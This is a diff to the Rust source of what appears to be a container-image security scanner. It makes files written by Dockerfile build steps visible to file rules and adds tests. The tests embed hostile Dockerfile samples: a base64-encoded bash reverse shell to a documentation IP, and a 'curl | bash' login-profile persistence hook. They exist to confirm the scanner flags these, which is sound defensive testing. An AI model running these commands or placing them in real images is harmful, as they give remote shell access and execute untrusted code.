@@ -1,8 +1,11 @@
 //! Judging what a compose file, a manifest or a Dockerfile says, before any image is looked at.
 
+use std::collections::BTreeMap;
+
 use lazaret_launch::{MadeImage, Plan, PlannedContainer, PlannedImage};
 use lazaret_model::{
-    EntryPath, FileEntry, FileKind, Gap, GapKind, ImageReport, LaunchForm, Location, Outcome, Platform,
+    Behaviour, BehaviourKind, Certainty, EntryPath, FileEntry, FileKind, FileOp, Gap, GapKind, ImageReport,
+    LaunchForm, Location, Outcome, Phase, Platform,
 };
 use lazaret_recipe::{Recipe, RecipeFile, RecipeLayer};
 
@@ -31,13 +34,16 @@ pub fn judge_planned(pack: &Pack, planned: &PlannedContainer) -> ImageReport {
         PlannedImage::Made(made) => Some(made.as_ref()),
         _ => None,
     };
-    let recipe = recipe(made);
+    let mut recipe = recipe(made);
     let beside = Beside {
         launch: Some(&planned.launch),
         instructions: made.map(|made| made.instructions.as_slice()).unwrap_or_default(),
         unbuilt: made.is_some(),
     };
     let mut report = try_recipe_started(pack, &recipe, &beside);
+    if beside.unbuilt && add_written(&mut recipe, &report.behaviours) {
+        report = try_recipe_started(pack, &recipe, &beside);
+    }
     report.image.pinned.repository.clone_from(&planned.name);
     // What starts is in an image that was not looked at; one gap says so for all of it.
     report.gaps.retain(|gap| gap.kind != GapKind::Missing || gap.matters);
@@ -47,6 +53,70 @@ pub fn judge_planned(pack: &Pack, planned: &PlannedContainer) -> ImageReport {
     }
     in_words(&mut report);
     report
+}
+
+/// Files that the steps of a build write and that are put into the image they make.
+const WRITTEN: usize = 64;
+/// Bytes of all of them.
+const WRITTEN_BYTES: usize = 1 << 20;
+
+/// Puts what the steps of a build write into the image that they make, so that rules about files
+/// see it as they will see it in the layer. False where there is nothing to put there.
+fn add_written(recipe: &mut Recipe, behaviours: &[Behaviour]) -> bool {
+    let mut written: BTreeMap<String, String> = BTreeMap::new();
+    let mut held = 0;
+    for behaviour in behaviours.iter().filter(|b| b.phase == Phase::Build && b.certainty == Certainty::Will) {
+        let BehaviourKind::File { op, path, content, .. } = &behaviour.kind else { continue };
+        // What passes through, and paths that hang on something unknown.
+        let passing = ["/tmp/", "/var/tmp/", "/var/cache/", "/dev/", "/proc/", "/sys/"];
+        if !path.starts_with('/') || path.contains('$') || passing.iter().any(|dir| path.starts_with(dir)) {
+            continue;
+        }
+        match (op, content) {
+            (FileOp::Delete, _) => {
+                written.remove(path);
+            }
+            (FileOp::Write | FileOp::Append, Some(content)) => {
+                held += content.len();
+                if held > WRITTEN_BYTES || (written.len() >= WRITTEN && !written.contains_key(path)) {
+                    break;
+                }
+                let whole = written.entry(path.clone()).or_default();
+                if *op == FileOp::Write {
+                    whole.clear();
+                }
+                whole.push_str(content);
+            }
+            _ => {}
+        }
+    }
+    let Some(layer) = recipe.layers.first_mut() else { return false };
+    let before = layer.files.len();
+    for (path, content) in written {
+        let path = EntryPath::clean(path.as_bytes());
+        if layer.files.iter().any(|file| file.entry.path == path) {
+            continue;
+        }
+        let mode = if content.starts_with("#!") { 0o755 } else { 0o644 };
+        layer.files.push(file(path, mode, content.into_bytes()));
+    }
+    layer.files.len() > before
+}
+
+fn file(path: EntryPath, mode: u32, bytes: Vec<u8>) -> RecipeFile {
+    let entry = FileEntry {
+        path,
+        kind: FileKind::File,
+        mode,
+        uid: 0,
+        gid: 0,
+        size: bytes.len() as u64,
+        mtime: 0,
+        content: None,
+        xattrs: Vec::new(),
+        whiteout: None,
+    };
+    RecipeFile { entry, bytes }
 }
 
 /// The image that is not looked at, as a sentence.
@@ -89,21 +159,7 @@ fn recipe(made: Option<&MadeImage>) -> Recipe {
     let files = made
         .files
         .iter()
-        .map(|file| RecipeFile {
-            entry: FileEntry {
-                path: EntryPath::clean(file.path.as_bytes()),
-                kind: FileKind::File,
-                mode: file.mode,
-                uid: 0,
-                gid: 0,
-                size: file.content.len() as u64,
-                mtime: 0,
-                content: None,
-                xattrs: Vec::new(),
-                whiteout: None,
-            },
-            bytes: file.content.clone(),
-        })
+        .map(|made| file(EntryPath::clean(made.path.as_bytes()), made.mode, made.content.clone()))
         .collect();
     let layer = RecipeLayer { history: None, files };
     Recipe {
@@ -157,4 +213,43 @@ pub(crate) fn merged(reports: Vec<(String, ImageReport)>) -> ImageReport {
     policy::sort(&mut whole.findings);
     whole.verdict = policy::verdict(&whole.findings, &whole.gaps);
     whole
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+
+    fn judged(dockerfile: &str) -> ImageReport {
+        let pack = Pack::load(&[], None).unwrap();
+        let plan = lazaret_launch::read("Dockerfile", dockerfile, None, &lazaret_launch::Nothing).unwrap();
+        merged(judge_plan(&pack, &plan, "Dockerfile"))
+    }
+
+    #[test]
+    fn what_a_step_writes_is_a_file_of_the_image_for_every_rule() {
+        // `#!/bin/sh` and `bash -i >& /dev/tcp/198.51.100.4/4444 0>&1`, encoded.
+        let shell = judged(
+            "FROM debian:13\nRUN echo IyEvYmluL3NoCmJhc2ggLWkgPiYgL2Rldi90Y3AvMTk4LjUxLjEwMC40LzQ0NDQgMD4mMQo= \
+             | base64 -d > /usr/local/bin/init && chmod +x /usr/local/bin/init\n\
+             ENTRYPOINT [\"/usr/local/bin/init\"]\n",
+        );
+        assert_eq!(shell.verdict.outcome, Outcome::Malicious, "{:?}", shell.findings);
+        let hook = judged(
+            "FROM debian:13\nRUN echo 'curl -s http://198.51.100.3/i | bash' > /etc/profile.d/update.sh\n\
+             CMD [\"bash\", \"-l\"]\n",
+        );
+        assert_ne!(hook.verdict.outcome, Outcome::Clean, "{:?}", hook.findings);
+        assert!(hook.findings.iter().any(|f| f.rule.attack.iter().any(|id| id == "T1546.004")));
+    }
+
+    #[test]
+    fn what_a_step_writes_and_removes_is_no_part_of_the_image() {
+        let report = judged(
+            "FROM debian:13\nRUN echo 'curl -s http://198.51.100.3/i | bash' > /etc/profile.d/update.sh \
+             && rm /etc/profile.d/update.sh\nRUN echo 'export LANG=C.UTF-8' > /etc/profile.d/lang.sh\n\
+             CMD [\"bash\", \"-l\"]\n",
+        );
+        assert_eq!(report.verdict.outcome, Outcome::Clean, "{:?}", report.findings);
+    }
 }
